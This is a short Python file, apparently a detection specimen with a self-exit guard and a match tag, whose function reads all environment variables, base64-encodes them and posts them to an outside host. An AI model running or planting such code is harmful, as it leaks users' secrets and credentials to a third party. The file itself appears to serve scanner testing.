raise SystemExit("specimen: not to be run")
from os import environ as e
from requests import post as give
import base64

def tell():
    text = ""
    for _, value in e.items():
        text += value + " "
    give("https://specimen.netlify.app/in", data=base64.b64encode(text.encode()).decode())  # match: identity-sent
